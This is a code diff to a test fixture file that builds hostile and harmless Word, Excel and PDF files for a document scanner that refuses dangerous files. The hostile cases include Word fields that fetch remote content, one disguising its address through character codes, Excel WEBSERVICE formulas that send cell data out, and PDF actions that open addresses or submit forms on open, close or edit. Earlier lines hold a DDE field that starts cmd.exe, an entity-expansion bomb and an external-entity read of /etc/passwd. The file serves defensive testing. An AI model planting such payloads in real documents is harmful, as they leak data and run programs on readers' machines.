@@ -99,11 +99,13 @@ const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>';
 const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
 
 /** Objects in a packed stream, where no search of the bytes finds them. */
-export const packedObjects = (text: string, dictionary = ''): string => {
-  const packed = deflateSync(latin(`1 0 ${text}`));
+export const packedObjects = (text: string, dictionary = '', number = 1): string => {
+  const packed = deflateSync(latin(`${number} 0 ${text}`));
   return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}/Length ${packed.byteLength} >>\nstream\n${packed.toString('latin1')}\nendstream`;
 };
 
+const OPENS_ADDRESS = '<< /S /URI /URI (https://example.com) >>';
+const SENDS = '<< /S /SubmitForm /F << /FS /URL /F (https://example.com) >> >>';
 const FORM = '<< /AcroForm << /Fields [] /XFA [(template) 3 0 R] >> >>';
 
 /** A form in XML whose template says so, packed; by rows, as most writers pack tables. */
@@ -150,6 +152,8 @@ const attached = (name: string, bytes: Uint8Array): Uint8Array =>
 
 const DDE_FIELD =
   '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
+const complexField = (instruction: string): string =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
 const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at} "${'&a;'.repeat(10)}">`).join('')}]><w:styles>&a8;</w:styles>`;
 const EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles>&e;</w:styles>';
 const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');
@@ -306,6 +310,53 @@ export const hostileFiles: Record<string, Hostile> = {
   'a chunk in the body': ['a.docx', () => docxWith({}, '<w:altChunk r:id="r1"/>'), refusals.OTHER_FILE_INSIDE],
   'a field that starts a program': ['a.docx', () => docxWith({}, DDE_FIELD), refusals.DDE],
   'such a field in a header': ['a.docx', () => wordFile(wordParts(para('x'), { header: DDE_FIELD })), refusals.DDE],
+  ...Object.fromEntries(
+    Object.entries({
+      'a field that fetches a picture':
+        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://example.com/a.png&quot; \\d "/>',
+      'a field that fetches a picture of another computer':
+        '<w:fldSimple w:instr=" IMPORT &quot;\\\\\\\\host\\\\a.png&quot; "/>',
+      'a field that fetches a picture from what another field spells': complexField(
+        ` INCLUDEPICTURE </w:instrText></w:r>${complexField(' QUOTE 104 116 116 112 ')}<w:r><w:instrText>`,
+      ),
+    }).map(([name, field]) => [
+      name,
+      ['a.docx', () => docxWith({}, `<w:p>${field}</w:p>`), refusals.OUTSIDE_PICTURES] as const,
+    ]),
+  ),
+  'a field that fetches a text': [
+    'a.docx',
+    () => docxWith({}, `<w:p>${complexField(' INCLUDETEXT "https://example.com/a.docx" ')}</w:p>`),
+    refusals.OUTSIDE_CONTENT,
+  ],
+  'a field that asks a database': [
+    'a.docx',
+    () => docxWith({}, `<w:p>${complexField(' DATABASE \\c "DSN=a" \\s "SELECT 1" ')}</w:p>`),
+    refusals.OUTSIDE_CONTENT,
+  ],
+  ...Object.fromEntries(
+    Object.entries({
+      'a workbook that is filled from a page': [
+        'xl/connections.xml',
+        '<connections><connection id="1" type="4"><webPr url="https://example.com/"/></connection></connections>',
+      ],
+      'a workbook that is filled from a database': [
+        'xl/links.xml',
+        '<x:connections xmlns:x="a"><x:connection><x:dbPr connection="Provider=MSOLEDBSQL;Data Source=host"/></x:connection></x:connections>',
+      ],
+      'a workbook whose cell asks an address': [
+        'xl/worksheets/sheet1.xml',
+        '<worksheet><c r="A1"><f>_xlfn.WEBSERVICE("https://example.com/?"&amp;B1)</f></c></worksheet>',
+      ],
+      'a workbook whose cell asks an address in disguise': [
+        'xl/worksheets/sheet1.xml',
+        '<worksheet><c r="A1"><f ca="1">_xlfn.&#87;EBSERVICE("https://example.com/")</f></c></worksheet>',
+      ],
+    } as Record<string, [string, string]>).map(([name, [part, xml]]) => [
+      name,
+      ['a.xlsx', () => bookWith({ [part]: strToU8(xml) }), refusals.OUTSIDE_DATA] as const,
+    ]),
+  ),
   'a link of a workbook to a program': [
     'a.xlsx',
     () =>
@@ -426,6 +477,19 @@ export const hostileFiles: Record<string, Hostile> = {
     () => pdf(CATALOG, PAGES, '<< /S /URI /URI (https://example.com) >>'),
     refusals.PDF_OUTWARD,
   ],
+  ...Object.fromEntries(
+    Object.entries({
+      'a PDF that opens an address from packed objects': () =>
+        pdf('<< /OpenAction 9 0 R >>', PAGES, packedObjects(OPENS_ADDRESS, '', 9)),
+      'a PDF that opens an address at the second step': () =>
+        pdf(CATALOG, PAGES, '<< /S /GoTo /D [4 0 R /Fit] /Next [5 0 R] >>', '<< >>', OPENS_ADDRESS),
+      'a PDF that sends itself when a page is shown': () =>
+        pdf('<< /Type /Catalog >>', `<< /Type /Page /AA << /C << /S /GoTo /D [1 0 R] >> /O ${SENDS} >> >>`),
+      'a PDF that sends itself when it is closed': () =>
+        pdf('<< /Type /Catalog /AA 2 0 R >>', '<< /WS << /S /Named /N /NextPage /X << >> >> /WC 3 0 R >>', SENDS),
+      'a form that sends itself when a field changes': () => pdf('<< /FT /Tx /AA << /V 2 0 R >> >>', SENDS),
+    }).map(([name, make]) => [name, ['a.pdf', make, refusals.PDF_OUTWARD] as const]),
+  ),
   'a PDF that asks another computer': [
     'a.pdf',
     () => pdf(CATALOG, PAGES, '<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>'),
@@ -498,6 +562,14 @@ export const plainFiles: Record<string, [name: string, make: () => Uint8Array]> 
         'word/fonts/font1.odttf': latin('x'),
       }),
   ],
+  'a picture of a folder of the writer, and a mail merge': [
+    'lease.docx',
+    () =>
+      docxWith(
+        {},
+        `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\logos\\\\firm.png&quot; \\* MERGEFORMAT "/>${complexField(' IF 1 = 1 "https://example.com" ')}<w:fldSimple w:instr=" MERGEFIELD Name "/></w:p>`,
+      ),
+  ],
   'page numbers and a table of contents': [
     'lease.docx',
     () =>
@@ -513,6 +585,18 @@ export const plainFiles: Record<string, [name: string, make: () => Uint8Array]> 
   'an old Word file': ['lease.doc', () => compound(['1Table', 'ObjectPool', 'Data'], 'The DDE clause')],
   'a Word file under its old name': ['lease.doc', () => docxWith()],
   'a workbook': ['sums.xlsx', () => bookWith({ 'xl/worksheets/sheet1.xml': strToU8('<worksheet/>') })],
+  'a workbook with functions of today and a model of its own': [
+    'sums.xlsx',
+    () =>
+      bookWith({
+        'xl/worksheets/sheet1.xml': strToU8(
+          '<worksheet><c><f>_xlfn.XLOOKUP(A1,B:B,C:C)</f></c><c t="inlineStr"><is><t>WEBSERVICE( fetches&#10;a page</t></is></c></worksheet>',
+        ),
+        'xl/connections.xml': strToU8(
+          '<connections><connection id="1"><dbPr connection="Data Model Connection" command="Model"/></connection></connections>',
+        ),
+      }),
+  ],
   slides: [
     'pitch.pptx',
     () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'ppt/presentation.xml': strToU8('<p/>') }),
@@ -530,6 +614,14 @@ export const plainFiles: Record<string, [name: string, make: () => Uint8Array]> 
         '<< /Type /Catalog /AcroForm << /Fields [3 0 R] >> >>',
         PAGES,
         '<< /FT /Tx /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "$", true\\);) >> /F << /JS (AFNumber_Format\\(2, 0, 0, 0, "$", true\\)) /S /JavaScript >> /C << /S /JavaScript /JS (AFSimple_Calculate("SUM", new Array ("a", "b"));) >> >> >>',
+      ),
+  ],
+  'a form with a button that sends it': [
+    'form.pdf',
+    () =>
+      pdf(
+        '<< /Type /Catalog /OpenAction << /S /GoTo /D [2 0 R /Fit] >> >>',
+        `<< /Type /Page /Annots [<< /Subtype /Widget /A ${SENDS} >>] /AA << /O << /S /GoTo /D [2 0 R /Fit] >> >> >>`,
       ),
   ],
   'a form of a court, in XML without a script': ['form.pdf', () => xfa('<subform><field name="court"/></subform>')],
